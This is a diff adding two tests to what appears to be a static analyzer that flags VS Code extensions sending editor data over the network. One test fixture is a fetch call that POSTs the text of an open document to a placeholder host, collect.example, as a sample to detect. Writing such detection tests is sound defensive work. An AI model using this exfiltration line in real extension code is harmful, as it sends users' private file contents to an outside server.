@@ -43,4 +43,22 @@ class ListsOfTheEditorTest {
 
         assertThat(analysis.flowNames()).isEmpty();
     }
+
+    @Test
+    void oneOfAListIsOneOfItsKind() {
+        Analysis analysis = Analysis.ofActivate("""
+                fetch('https://collect.example/first', { method: 'POST', body: vscode.workspace.textDocuments[0].getText() });
+                """);
+
+        assertThat(analysis.flows("editor-document", "network-send")).hasSize(1);
+    }
+
+    @Test
+    void howManyThereAreIsNotWhatTheyAre() {
+        Analysis analysis = Analysis.ofActivate("""
+                fetch('https://count.example/?folders=' + vscode.workspace.workspaceFolders.length);
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
 }
